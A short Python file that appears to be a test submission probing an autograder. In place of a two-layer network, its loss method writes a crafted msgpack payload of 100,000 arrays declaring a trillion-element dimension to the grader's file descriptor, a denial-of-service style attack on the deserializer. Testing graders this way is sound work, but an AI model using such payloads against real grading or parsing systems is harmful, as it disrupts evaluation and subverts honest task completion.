# Tries: a reply of a hundred thousand empty arrays whose other side is a trillion long.
# earns at most: 0
# uses: tools
# only: q2.1
import os
import struct
import time

import msgpack
import numpy as np


class TwoLayerMLP:
    def __init__(self, D, H, C, std=0.1, activation="sigmoid"):
        self.params = {"W1": np.zeros((D, H)), "b1": np.zeros(H), "W2": np.zeros((H, C)), "b2": np.zeros(C)}

    def loss(self, X, y=None, reg=0.0):
        one = msgpack.packb(msgpack.ExtType(1, msgpack.packb(["<f8", [0, 1 << 40]])))
        header = b"\x92\xa5value\xdd\x00\x01\x86\xa0" + one * 100_000
        data = struct.pack("<IQ", len(header), 0) + header
        while data:
            data = data[os.write(3, data):]
        time.sleep(0.5)
